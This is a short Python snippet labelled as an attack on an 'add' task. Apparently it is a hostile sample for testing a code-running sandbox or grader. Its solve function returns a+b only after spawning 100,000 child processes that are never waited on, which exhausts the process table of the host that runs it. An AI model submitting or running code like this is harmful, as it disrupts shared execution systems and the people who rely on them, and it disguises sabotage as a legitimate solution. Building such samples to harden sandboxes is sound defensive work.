# Attack: thousands of children that nobody waits for.
# task: add
import os
def solve(a, b):
    for i in range(100000):
        os.spawnv(os.P_NOWAIT,'/bin/true',['true'])
    return a+b
